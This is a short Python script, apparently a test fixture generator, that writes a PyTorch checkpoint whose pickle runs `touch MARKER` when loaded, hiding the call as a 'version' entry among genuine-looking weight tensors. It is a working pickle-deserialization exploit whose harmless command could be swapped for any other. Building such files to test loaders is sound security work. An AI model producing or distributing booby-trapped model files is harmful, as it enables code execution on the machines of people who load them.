"""Writes a PyTorch checkpoint that runs a command when Python unpickles it. Needs Python alone.

usage: make_hostile.py OUT.pt MARKER      the command is `touch MARKER`
"""
import io, pickle, struct, sys, zipfile


class Global:
    """A name that the pickle imports."""

    def __init__(self, module, name):
        self.module, self.name = module, name


class Call:
    """A call of a global, made when the pickle is loaded."""

    def __init__(self, what, *args):
        self.what, self.args = what, args


class Storage:
    """A storage of floats beside the pickle."""

    def __init__(self, key, count):
        self.key, self.count = key, count


class Writer(pickle._Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", Global("torch", "FloatStorage"), obj.key, "cpu", obj.count)

    def reducer_override(self, obj):
        return NotImplemented

    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, Global):
            self.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())
        elif isinstance(obj, Call):
            self.save(obj.what)
            self.save(obj.args)
            self.write(pickle.REDUCE)
        else:
            super().save(obj, save_persistent_id)


def tensor(key, *shape):
    strides = (shape[1], 1) if len(shape) == 2 else (1,)
    count = shape[0] * (shape[1] if len(shape) == 2 else 1)
    hooks = Call(Global("collections", "OrderedDict"))
    return Call(Global("torch._utils", "_rebuild_tensor_v2"), Storage(key, count), 0, shape, strides, False, hooks)


def main(path, marker):
    command = Call(Global("distutils.spawn", "spawn"), ["touch", marker])
    out = io.BytesIO()
    Writer(out, 2).dump({"head.weight": tensor("0", 2, 3), "head.bias": tensor("1", 2), "version": command})
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", out.getvalue())
        z.writestr("archive/data/0", struct.pack("<6f", 1, 2, 3, 4, 5, 6))
        z.writestr("archive/data/1", struct.pack("<2f", 0.5, -0.5))
        z.writestr("archive/version", "3\n")


main(*sys.argv[1:])
